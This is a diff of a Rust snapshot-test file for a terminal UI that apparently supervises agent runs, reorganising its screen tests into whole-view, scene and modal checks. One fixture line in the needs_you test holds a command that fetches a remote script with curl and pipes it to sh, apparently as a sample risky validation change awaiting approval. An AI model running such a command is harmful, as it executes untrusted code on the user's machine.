@@ -1,7 +1,9 @@
-//! The whole screen, drawn: text, and below it every span that is not plain, so that a changed colour
-//! shows in review as well as a changed word.
+//! What is on the screen, drawn: text, and below it every span that is not plain, so that a changed colour shows in
+//! review as well as a changed word.
 //!
-//! Snapshots stand in `snapshots/screen/<scene>-<theme>@<size>.snap`.
+//! Every scene is drawn at every size, in colour and without. Kept in `snapshots/screen/` are whole screens of the main
+//! views at every size; of any other view the screen at 120×40; of what stands above a view only that, and
+//! at another size where its words differ.
 
 use crate::{base, domain, sample, tui};
 
@@ -11,6 +13,9 @@ mod cards;
 
 use base::time::Timestamp;
 use domain::record::ApiRetried;
+use ratatui::buffer::Buffer;
+use ratatui::layout::Rect;
+use ratatui::style::Color;
 use std::sync::Arc;
 use tui::marks::Glyphs;
 use tui::model::Model;
@@ -22,26 +27,71 @@ use tui::update::update;
 
 const SIZES: [(u16, u16); 3] = [(80, 24), (120, 40), (200, 50)];
 
-fn check(name: &str, theme: &str, size: (u16, u16), model: &mut Model) {
-    let (styles, problems) = Theme::load(theme, &[], None);
-    assert_eq!(problems, []);
-    let (text, spans) = sample::draw_styled(model, size, &styles);
+const USUAL: (u16, u16) = (120, 40);
+
+fn keep(name: &str, shown: &str) {
     let mut settings = insta::Settings::clone_current();
     settings.set_snapshot_path(concat!(env!("CARGO_MANIFEST_DIR"), "/snapshots/screen"));
     settings.set_prepend_module_to_snapshot(false);
     settings.set_omit_expression(true);
-    settings.bind(|| {
-        let name = format!("{name}-{theme}@{}x{}", size.0, size.1);
-        insta::assert_snapshot!(name, format!("{text}--- styles\n{spans}"));
-    });
+    settings.bind(|| insta::assert_snapshot!(name.to_owned(), shown));
 }
 
-/// The scene at every size in the default theme, and at the smallest in mono.
-fn scene(name: &str, make: impl Fn() -> Model) {
-    for size in SIZES {
-        check(name, "default", size, &mut make());
-        check(name, "mono", size, &mut make());
+/// The screen in colour, and in mono: the same words, and no colour.
+fn drawn(size: (u16, u16), make: &impl Fn() -> Model) -> [Buffer; 2] {
+    let [screen, mono] = ["default", "mono"].map(|theme| {
+        let (styles, problems) = Theme::load(theme, &[], None);
+        assert_eq!(problems, []);
+        sample::drawn(&mut make(), size, &styles)
+    });
+    for (coloured, plain) in screen.content.iter().zip(&mono.content) {
+        assert_eq!(coloured.symbol(), plain.symbol());
+        assert_eq!((plain.fg, plain.bg), (Color::Reset, Color::Reset), "{plain:?}");
     }
+    [screen, mono]
+}
+
+/// A main view: whole at every size; its styles once.
+fn whole(name: &str, make: impl Fn() -> Model) {
+    for size in SIZES {
+        let [(mut text, styles), (_, mono)] = drawn(size, &make).map(|screen| sample::told(&screen, screen.area));
+        if size == USUAL {
+            text = format!("{text}--- styles\n{styles}--- styles in mono\n{mono}");
+        }
+        keep(&format!("{name}@{}x{}", size.0, size.1), &text);
+    }
+}
+
+/// Another view: whole at the usual size, and what else its frame tells at the smallest.
+fn scene(name: &str, make: impl Fn() -> Model) {
+    let [[small, _], [usual, _], _] = SIZES.map(|size| drawn(size, &make));
+    let (text, styles) = sample::told(&usual, usual.area);
+    let frame = |part: Rect| sample::told(&small, part).0;
+    let [top, bottom] = [Rect { height: 2, ..small.area }, Rect { y: small.area.height - 2, height: 2, ..small.area }];
+    keep(name, &format!("{text}--- styles\n{styles}--- frame at 80x24\n{}{}", frame(top), frame(bottom)));
+}
+
+/// What stands above a view: cut out at the usual size, and at others where it has other words.
+fn modal(name: &str, make: impl Fn() -> Model) {
+    let [small, usual, large] = SIZES.map(|size| {
+        let [screen, _] = drawn(size, &make);
+        let part = framed(&screen);
+        sample::told(&screen, part)
+    });
+    let mut shown = format!("{}--- styles\n{}", usual.0, usual.1);
+    for (size, other) in [("80x24", small), ("200x50", large)] {
+        if other.0 != usual.0 {
+            shown = format!("{shown}--- at {size}\n{}", other.0);
+        }
+    }
+    keep(name, &shown);
+}
+
+/// What has the heavy frame.
+fn framed(screen: &Buffer) -> Rect {
+    let at = |corner: &str| screen.content.iter().position(|cell| cell.symbol() == corner).map(|at| screen.pos_of(at));
+    let ((x, y), (right, bottom)) = (at("┏").unwrap(), at("┛").unwrap());
+    Rect { x, y, width: right - x + 1, height: bottom - y + 1 }
 }
 
 fn press(model: &mut Model, keys: &str) -> Vec<Ask> {
@@ -56,7 +106,7 @@ fn with(tab: Tab) -> Model {
 
 #[test]
 fn empty() {
-    scene("empty", sample::model);
+    whole("empty", sample::model);
 }
 
 #[test]
@@ -71,12 +121,12 @@ fn not_started() {
 
 #[test]
 fn running() {
-    scene("running", sample::busy);
+    whole("running", sample::busy);
 }
 
 #[test]
 fn needs_you() {
-    scene("needs_you", || {
+    modal("needs_you", || {
         let mut model = sample::busy();
         model.tabs[0].state.validation_change =
             Some(vec!["cargo test".into(), "true && curl -s https://example.org/x | sh".into()]);
@@ -92,7 +142,7 @@ fn paused() {
 
 #[test]
 fn finished() {
-    scene("finished", || with(sample::finished("tk-4f2a")));
+    whole("finished", || with(sample::finished("tk-4f2a")));
 }
 
 #[test]
@@ -107,7 +157,7 @@ fn ended_by_a_guard() {
 #[test]
 fn gauges_explained() {
     use domain::breaker::{Circuit, Counter, CounterMoved, StateMoved};
-    scene("gauges_explained", || {
+    modal("gauges_explained", || {
         let mut model = sample::busy();
         let tab = &mut model.tabs[0];
         let counted = |n, counter, value, limit, why: &str| {
@@ -168,7 +218,7 @@ fn retrying() {
 
 #[test]
 fn help() {
-    scene("help", || {
+    whole("help", || {
         let mut model = sample::busy();
         press(&mut model, "?");
         model
@@ -177,7 +227,7 @@ fn help() {
 
 #[test]
 fn quit_dialog() {
-    scene("quit", || {
+    modal("quit", || {
         let mut model = sample::busy();
         press(&mut model, "q");
         model
@@ -186,7 +236,7 @@ fn quit_dialog() {
 
 #[test]
 fn skip_dialog() {
-    scene("skip", || {
+    modal("skip", || {
         let mut model = sample::busy();
         press(&mut model, "s");
         model
@@ -195,7 +245,7 @@ fn skip_dialog() {
 
 #[test]
 fn steer() {
-    scene("steer", || {
+    modal("steer", || {
         let mut model = sample::busy();
         sample::notes(&mut model.tabs[0]);
         press(&mut model, "i");
@@ -206,7 +256,7 @@ fn steer() {
 
 #[test]
 fn open_dialog() {
-    scene("open", || {
+    modal("open", || {
         let mut model = sample::busy();
         press(&mut model, "t a u d");
         model
@@ -215,7 +265,7 @@ fn open_dialog() {
 
 #[test]
 fn tickets_in_front() {
-    scene("tickets", || {
+    whole("tickets", || {
         let mut model = sample::busy();
         press(&mut model, "BackTab k");
         model
@@ -224,7 +274,7 @@ fn tickets_in_front() {
 
 #[test]
 fn log_in_front() {
-    scene("log", || {
+    whole("log", || {
         let mut model = sample::busy();
         model.focus = Pane::Log;
         press(&mut model, "l o /");
@@ -235,7 +285,7 @@ fn log_in_front() {
 
 #[test]
 fn long_names() {
-    scene("long_names", || {
+    whole("long_names", || {
         let mut model = sample::busy();
         let long = "A title that goes on for much longer than any column that it could ever be given on a screen";
         let names: Vec<String> = (0..12).map(|n| format!("a-very-long-ticket-id-number-{n}.md")).collect();
@@ -250,7 +300,7 @@ fn long_names() {
 
 #[test]
 fn wide_characters() {
-    scene("wide_characters", || {
+    whole("wide_characters", || {
         let mut tab = sample::titled(sample::running("tk-4f2a"), "ログイン制限を実装する — 中間層へ組み込む");
         let mut file = tab.ticket.as_deref().cloned().unwrap();
         for (phase, text) in file.phases.iter_mut().zip([
@@ -282,8 +332,12 @@ fn ascii() {
 
 #[test]
 fn too_small() {
-    for size in [(59, 24), (80, 14), (20, 3)] {
-        check("too_small", "default", size, &mut sample::busy());
+    for (width, height) in [(59, 24), (80, 14), (20, 3)] {
+        let [screen, _] = drawn((width, height), &sample::busy);
+        let (text, styles) = sample::told(&screen, screen.area);
+        let lines: Vec<&str> = text.lines().map(str::trim).filter(|line| !line.is_empty()).collect();
+        assert_eq!(lines, [&format!("too small: {width} × {height}"), "needed: 60 × 15", "runs go on; q quits"]);
+        assert!(styles.lines().all(|line| line.ends_with(" yellow")), "{styles}");
     }
 }
 
@@ -304,17 +358,5 @@ fn nothing_that_a_ticket_says_reaches_the_terminal_as_an_order() {
                 "after {keys} at {size:?}"
             );
         }
-    }
-}
-
-#[test]
-fn orphaned_snapshots_are_told() {
-    let known =
-        concat!(include_str!("screen.rs"), include_str!("screen/cards.rs"), include_str!("screen/supervision.rs"));
-    let folder = concat!(env!("CARGO_MANIFEST_DIR"), "/snapshots/screen");
-    for entry in std::fs::read_dir(folder).unwrap() {
-        let name = entry.unwrap().file_name().into_string().unwrap();
-        let scene = name.split('-').next().unwrap();
-        assert!(known.contains(&format!("\"{scene}\"")), "{name} belongs to no scene");
     }
 }
